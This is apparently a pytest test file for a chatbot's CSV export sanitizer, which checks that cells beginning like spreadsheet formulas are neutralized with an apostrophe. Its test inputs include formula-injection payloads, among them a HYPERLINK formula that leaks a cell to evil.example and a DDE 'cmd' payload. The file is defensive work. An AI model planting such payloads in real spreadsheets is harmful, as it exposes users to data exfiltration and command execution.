import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.csv_out import BOM, Cell, encoded, guarded, lines

cells = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40)


def read(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1", "\x00=1", "\u200b=1", "\ufeff=1", " \t=1",
     "＝1", "＋1", "－1", "＠x", "\u3000＝1", '=HYPERLINK("https://evil.example?"&A1,"see")', "-2+3+cmd|' /C calc'!A0"],
)  # fmt: skip
def test_what_begins_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", " ", "Where is my order?", "a=b", "1-2", "#=1", "退货", "'=1", 7, -5, -0.5, None])
def test_anything_else_stays_as_it_is(cell: Cell) -> None:
    assert guarded(cell) == cell


def test_numbers_stand_bare_and_texts_are_quoted() -> None:
    assert lines([("id", 3, -2.5, None), ('say "hi"', 0, 1.0, "a,b")]) == (
        '"id",3,-2.5,""\r\n"say ""hi""",0,1.0,"a,b"\r\n'
    )


@given(st.lists(st.lists(cells, min_size=2, max_size=4), min_size=1, max_size=4))
def test_every_cell_can_be_read_back_and_none_begins_like_a_formula(rows: list[list[str]]) -> None:
    back = read(lines(rows))
    assert back == [[guarded(cell) for cell in row] for row in rows]
    assert not [cell for row in back for cell in row if cell.strip()[:1] in ("=", "+", "-", "@")]


def test_a_spreadsheet_that_cuts_at_semicolons_finds_no_formula_either() -> None:
    (row,) = read(lines([("hello;=1+1;x",)]), delimiter=";")
    assert row == ["hello;=1+1;x"]


def test_half_a_surrogate_pair_does_not_end_the_file() -> None:
    assert encoded(f"{BOM}a\ud800b") == b"\xef\xbb\xbfa?b"
